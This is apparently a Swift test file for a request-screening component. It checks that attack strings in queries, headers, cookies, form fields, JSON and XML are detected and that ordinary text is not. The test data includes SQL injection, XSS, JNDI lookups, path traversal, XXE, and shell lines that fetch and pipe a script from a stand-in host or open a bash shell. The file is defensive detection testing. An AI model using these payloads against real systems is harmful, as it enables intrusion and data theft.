import Testing
import WritModel

@testable import WritIngress

@Suite struct ScreeningTests {
    private func hits(
        query: String? = nil, fields: HTTPFields = [:], body: String = "", type: String? = nil, schema: Node? = nil
    ) throws -> [ScreeningHit] {
        var fields = fields
        if let type { fields.append("Content-Type", type) }
        let gate = try Samples.gate([Samples.trigger("POST", "/{proxy+}", schema: schema)])
        let request = HTTPRequest(method: "POST", path: "/items", query: query, authority: "a", fields: fields)
        let routed = try gate.route(request, length: body.utf8.count)
        let document = try type.flatMap(MediaType.essence).map(MediaType.isJSON) == true ? Samples.json(body) : nil
        return Screening(schema: schema).hits(in: routed, body: Array(body.utf8), document: document)
    }

    private func topics(_ value: String) throws -> [String] {
        let encoded = value.utf8.map { "%" + ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined()
        return try hits(query: "q=\(encoded)").filter { $0.confidence == .high }.map {
            String($0.rule.dropFirst("ingress.screening.".count))
        }
    }

    @Test(arguments: [
        "' or '1'='1", "' OR 1=1--", "1 or 1=1", "1) or (1=1", "x' or 'a'='a' --", "' or true--", "admin'--",
        "admin' #", "admin'/*", "') or ('x'='x",
        "1 UNION SELECT username, password FROM users", "' union all select null,null--", "1/**/union/**/select/**/1",
        "1 /*!UNION*/ /*!SELECT*/ 1",
        "1; DROP TABLE users", "'; delete from orders; --", "1;waitfor delay '0:0:5'--", "' and sleep(5)#",
        "1 and sleep(5)", "'-sleep(5)-'",
        "' || pg_sleep(5)--", "1' order by 3--", "1 AND (SELECT 1 FROM users LIMIT 1)=1", "'+(select version())+'",
        "\" or \"\"=\"", "'||'1'='1",
    ]) func sqlIsFound(value: String) throws {
        #expect(try topics(value).contains("sql"))
    }

    @Test(arguments: [
        "; cat /etc/hosts", "| whoami", "a; wget http://x.example/a.sh", "$(id)", "`id`", "x && curl http://x.example",
        "; sleep 5", "|| ping -c 3 127.0.0.1",
        "a\nwget http://x.example/b", "x;${IFS}ls", "1|uname -a", "$(curl x.example|sh)", "; /bin/bash -i", ";w'h'oami",
    ]) func shellCommandsAreFound(value: String) throws {
        #expect(try topics(value).contains("shell"))
    }

    @Test(arguments: [
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "a/../../b", "file:///proc/self/environ",
        "..%2f..%2fx",
    ]) func climbingPathsAreFound(value: String) throws {
        #expect(try topics(value).contains("path"))
    }

    @Test(arguments: [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "\" onmouseover=\"alert(1)", "javascript:alert(1)",
        "java\tscript:alert(1)", "<iframe src=//x>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;x",
        "%3Cscript%3E", "\\u003cscript\\u003ex",
        "<ScRiPt >x</sCrIpT>", "<details open ontoggle=alert(1)>",
    ]) func activeMarkupIsFound(value: String) throws {
        #expect(try topics(value).contains("markup"))
    }

    @Test(arguments: [
        ("${jndi:ldap://x.example/a}", "lookup"), ("${${lower:j}ndi:ldap://x}", "lookup"),
        ("${${::-j}${::-n}di:x}", "lookup"), ("${env:AWS_SECRET:-x}", "lookup"),
        ("{{7*7}}", "template"), ("${7*7}", "template"), ("<%= 7*7 %>", "template"),
        ("{{''.__class__.__mro__}}", "template"),
        ("${T(java.lang.Runtime).getRuntime()}", "template"), ("#{7*7}", "template"), ("*)(uid=*))(|(uid=*", "ldap"),
        ("admin)(&", "ldap"), ("*)(cn=*", "ldap"),
        ("http://169.254.169.254/latest/meta-data/", "metadata"), ("a\r\nSet-Cookie: s=1", "header"),
        ("rO0ABXNyABFqYXZh", "deserialization"),
    ]) func otherLanguagesAreFound(value: String, topic: String) throws {
        #expect(try topics(value).contains(topic))
    }

    /// Everyday values that look a little like attacks; none of them may be refused.
    @Test(arguments: [
        "O'Brien", "Tom & Jerry's", "rock 'n' roll", "It's 5 or 6 o'clock", "Select a plan from the list",
        "union of students; select committee",
        "drop table reservations for 2", "R&D; more to come", "a | b | c", "name;id;age", "cats && dogs",
        "1 or 2 rooms", "either 'a' or 'b'",
        "C:\\Users\\ann\\notes.txt", "https://example.com/a/b?c=d&e=f", "5 > 3 and 2 < 4", "<3 you", "a <b> c",
        "{{name}}", "Price: ${amount}", "f(x)(y)",
        "JavaScript: The Good Parts", "time.sleep(5)", "order by phone -- or online", "I'd like -- if possible -- two",
        "50% off!", "e=mc^2", "user@example.com",
        "2026-11-23T20:00:00Z", "Ann (CEO) & Bob (CTO)", "see chapter 3; find page 7", "what? 'yes' and 'no'", "x=1",
        "\"quoted\" text", "AT&T", "#1 choice",
        "Let's cut costs; sort it out", "C# or F#", "and/or", "he said 'or else'", "well... ok", "v1.2.3-beta+5",
        "${price}", "a;b", "100 | 200", "don't; sleep well",
        "Mac'n'Cheese", "l'ordre des avocats", "D'or et d'argent", "1=1 is true", "insert coin; update profile",
        "(see note)", "[x](y)", "O’Reilly", "日本語テキスト",
        "echo of the past", "the cat; the dog", "where is it?", "SELECT committee", "my 'special' offer; call now",
        "a--b", "'tis the season", "`code`", "1' 2\" board",
        "having a great time", "like 'this' or like 'that'", "5' 11\"", "O'Neil and Sons", "Fish & Chips; head office",
    ]) func everydayTextIsNotRefused(value: String) throws {
        #expect(try topics(value).isEmpty)
    }

    @Test func placesAreNamed() throws {
        let attack = "' or 1=1--"
        #expect(try hits(fields: ["X-Filter": attack]).first?.place == "header `x-filter`")
        #expect(try hits(fields: ["User-Agent": "${jndi:ldap://x}"]).first?.rule == "ingress.screening.lookup")
        #expect(
            try hits(fields: ["User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"])
                .isEmpty)
        #expect(
            try hits(body: "{\"a\":[{\"b\":\"\(attack)\"}]}", type: "application/json").first?.place == "body /a/0/b")
        #expect(
            try hits(body: "x=1&y=%27+or+1%3D1--", type: "application/x-www-form-urlencoded").first?.place
                == "form field `y`")
        #expect(try hits(body: attack, type: "text/plain").first?.place == "body")
        #expect(try hits(query: "%27%20or%201%3D1--=1").first?.place == "name of a query parameter")
    }

    @Test func cookiesAreLookedAtOneByOne() throws {
        #expect(try hits(fields: ["Cookie": "a=1; ls=2; id=3; b=' or 1=1--"]).map(\.place) == ["cookie `b`"])
    }

    @Test func aFormThatIsWronglyEncodedIsStillLookedAt() throws {
        #expect(
            try hits(body: "x=%zz&y=' or 1=1--", type: "application/x-www-form-urlencoded").contains {
                $0.rule == "ingress.screening.sql"
            })
    }

    @Test func operatorsAndPrototypesAsNamesAreFound() throws {
        #expect(
            try hits(body: #"{"user":{"$ne":null}}"#, type: "application/json").first?.rule == "ingress.screening.nosql"
        )
        #expect(
            try hits(body: #"{"__proto__":{"admin":true}}"#, type: "application/json").first?.rule
                == "ingress.screening.prototype")
        #expect(try hits(query: "user%5B$ne%5D=1").first?.rule == "ingress.screening.nosql")
        #expect(try hits(body: #"{"$schema":"x","price$":1}"#, type: "application/json").isEmpty)
    }

    @Test func entitiesInXMLAreFound() throws {
        let attack = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]><a>&x;</a>"
        #expect(try hits(body: attack, type: "application/xml").first?.rule == "ingress.screening.xxe")
        #expect(try hits(body: "<a><b>1</b></a>", type: "application/xml").isEmpty)
    }

    @Test func whatTheSchemaConfinesIsNotLookedAtAndProseIsOnlyReported() throws {
        let attack = "' or 1=1--"
        let body = "{\"v\":\"\(attack)\"}"
        func found(_ member: Node) throws -> [ScreeningHit] {
            try hits(body: body, type: "application/json", schema: .object(["properties": .object(["v": member])]))
        }
        #expect(try found(.object(["type": "string"])).first?.confidence == .high)
        #expect(try found(.object(["pattern": "^[a-z]+$"])).isEmpty)
        #expect(try found(.object(["contentMediaType": "text/plain"])).first?.confidence == .low)
        #expect(try found(.object(["contentMediaType": "application/json"])).first?.confidence == .high)
    }

    @Test func aHighHitIsRefusedAndInReportModeOnlyRecorded() throws {
        let request = HTTPRequest(method: "GET", path: "/items", query: "q=%27%20or%201=1--", authority: "a")
        for mode in IngressOptions.ScreeningMode.allCases {
            let gate = try Samples.gate([Samples.trigger("GET", "/items")], options: IngressOptions(screening: mode))
            var rates = RateTable()
            switch gate.decide(request, evidence: { _ in .none }, rates: &rates, context: Samples.context()) {
            case .success(let admission):
                #expect(mode == .report)
                #expect(admission.reported.first?.rule == "ingress.screening.sql")
            case .failure(let refusal):
                #expect(mode == .block)
                #expect(refusal.reason.rule == "ingress.screening.sql")
                #expect(refusal.status == 403)
            }
        }
    }

    /// Random text made of the pieces of attacks: nothing crashes, and the time stays linear enough for a value of a megabyte.
    @Test func anyBytesAreSurvived() throws {
        var random = SeededGenerator(5)
        let pieces = [
            "'", "\"", "<", ">", "or", " ", "1", "=", "--", "/*", "*/", "${", "}", "{{", "}}", "%27", "&lt;", "\\u0027",
            ";", "|", "$(", ")", "(", "union", "select", "..", "/", "é", "\\", "`", "on", "x=",
        ]
        for _ in 0..<2_000 {
            let text = (0..<Int.random(in: 0...40, using: &random)).map { _ in
                pieces.randomElement(using: &random) ?? ""
            }.joined()
            _ = try topics(text)
        }
        for piece in pieces { _ = try hits(body: String(repeating: piece, count: 4_000), type: "text/plain") }
    }
}
